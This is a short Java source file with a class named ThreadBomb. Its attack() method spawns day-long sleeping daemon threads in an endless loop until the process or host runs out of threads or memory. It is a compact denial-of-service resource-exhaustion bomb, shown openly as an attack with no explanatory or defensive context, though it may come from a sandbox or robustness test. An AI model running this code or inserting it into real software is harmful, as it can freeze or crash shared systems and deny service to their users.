/** Starts threads until there are no more. */
public class ThreadBomb {
    public void attack() {
        while (true) {
            Thread thread = new Thread(() -> {
                try {
                    Thread.sleep(86_400_000L);
                } catch (InterruptedException interrupted) {
                    throw new IllegalStateException(interrupted);
                }
            });
            thread.setDaemon(true);
            thread.start();
        }
    }
}
